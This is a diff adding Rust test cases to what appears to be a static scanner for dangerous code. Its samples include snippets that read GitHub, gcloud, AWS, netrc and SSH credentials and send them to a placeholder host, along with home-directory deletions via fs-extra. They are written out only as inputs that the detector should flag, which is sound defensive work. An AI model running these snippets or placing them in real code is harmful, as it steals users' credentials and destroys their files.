@@ -7738,3 +7738,147 @@ fn an_archive_of_a_copied_credential_holds_it() {
         "{report:#?}"
     );
 }
+
+/// A command that prints a credential (`gh auth token`, `git credential fill`, `gcloud auth
+/// print-access-token`) gives that credential, in argv form (`subprocess.run([...])`,
+/// `execFileSync(...)`) as in a shell: sent away it is exfiltration. The token of a service's
+/// own CLI sent to that service's documented host is its use, as its variable's is.
+#[test]
+fn a_command_printing_a_credential_gives_the_credential() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Py,
+            "import subprocess, socket\nout = subprocess.run(['git', 'credential', 'fill'], input='protocol=https\\nhost=github.com\\n\\n', capture_output=True, text=True).stdout\nsocket.gethostbyname(out[:40] + '.probe.example.net')\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Py,
+            "import subprocess, requests\ntok = subprocess.check_output(['gh', 'auth', 'token'], text=True).strip()\nrequests.post('https://collect.example.net/x', json={'auth': tok})\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        // the CLI's token to its own API: its use
+        (
+            Py,
+            "import subprocess, requests\ntok = subprocess.check_output(['gh', 'auth', 'token'], text=True).strip()\nr = requests.get('https://api.github.com/user', headers={'Authorization': f'token {tok}'})\nprint(r.status_code)\n",
+            Clean,
+            "",
+        ),
+        // another subcommand of the same CLI prints nothing secret
+        (
+            Py,
+            "import subprocess, requests\nst = subprocess.check_output(['gh', 'auth', 'status'], text=True)\nrequests.post('https://collect.example.net/x', json={'status': st})\n",
+            Suspicious,
+            "network",
+        ),
+        (
+            Js,
+            "const { execFileSync } = require('child_process');\nconst t = execFileSync('gh', ['auth', 'token'], { encoding: 'utf8' });\nfetch('https://collect.example.net/x', { method: 'POST', body: t });\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Sh,
+            "#!/bin/sh\ntok=$(gcloud auth print-access-token)\ncurl -s -d \"t=$tok\" https://collect.example.net/x\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Sh,
+            "#!/bin/sh\ncurl -s -H \"Authorization: Bearer $(gh auth token)\" https://api.github.com/user\n",
+            Clean,
+            "",
+        ),
+    ];
+    check_all(rows);
+}
+
+/// fs-extra's `emptyDir` (and its `emptydir` spellings) deletes every entry of the directory,
+/// as `remove` deletes the directory: judged by where that directory is.
+#[test]
+fn fs_extra_empty_dir_deletes_what_the_directory_holds() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Js,
+            "const fse = require('fs-extra');\nconst os = require('os');\nconst path = require('path');\nasync function main() {\n  await fse.emptyDir(path.join(os.homedir(), 'work'));\n}\nmain();\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Js,
+            "const fse = require('fs-extra');\nfse.emptydirSync(require('os').homedir());\n",
+            Dangerous,
+            "destructive",
+        ),
+        (
+            Js,
+            "const fse = require('fs-extra');\nasync function main() {\n  await fse.emptyDir('dist');\n}\nmain();\n",
+            Clean,
+            "",
+        ),
+    ];
+    check_all(rows);
+}
+
+/// A `pathlib.Path` method called unbound (`Path.read_text(p)`), also through
+/// `functools.partial` or `operator.methodcaller("read_text")`, is that method of its first
+/// argument: a credential file read so is read.
+#[test]
+fn unbound_path_methods_are_methods_of_their_first_argument() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Py,
+            "import functools, pathlib, requests\nread = functools.partial(pathlib.Path.read_text, encoding='utf-8')\nrequests.post('https://collect.example.net/x', data=read(pathlib.Path.home() / '.netrc'))\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Py,
+            "import operator, pathlib, requests\nread = operator.methodcaller('read_text')\nrequests.post('https://collect.example.net/x', data=read(pathlib.Path.home() / '.aws' / 'credentials'))\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Py,
+            "import pathlib\nprint(pathlib.Path.read_text(pathlib.Path.home() / '.pgpass'))\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        // the project's own file, read the same ways: clean
+        (
+            Py,
+            "import functools, operator, pathlib\nread = functools.partial(pathlib.Path.read_text, encoding='utf-8')\nlines = operator.methodcaller('read_text')\nprint(read(pathlib.Path('README.md')), lines(pathlib.Path('VERSION')))\n",
+            Clean,
+            "",
+        ),
+    ];
+    check_all(rows);
+}
+
+/// `shutil.make_archive(base, fmt, root_dir, base_dir)` writes an archive holding what the
+/// directory holds: of a credential directory, a copy of the credentials outside the project.
+#[test]
+fn make_archive_holds_the_directory_it_archives() {
+    let rows: &[(Language, &str, Verdict, &str)] = &[
+        (
+            Py,
+            "import os, shutil\npath = shutil.make_archive('/tmp/bk/keys', 'gztar', root_dir=os.path.expanduser('~/.ssh'))\nprint('archived')\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Py,
+            "import os, shutil\nshutil.make_archive('/tmp/bk/home', 'zip', os.path.expanduser('~'), '.aws')\n",
+            Dangerous,
+            "exfiltration",
+        ),
+        (
+            Py,
+            "import shutil\npath = shutil.make_archive('/tmp/bk/docs', 'gztar', root_dir='docs')\nprint('archived', path)\n",
+            Clean,
+            "",
+        ),
+    ];
+    check_all(rows);
+}
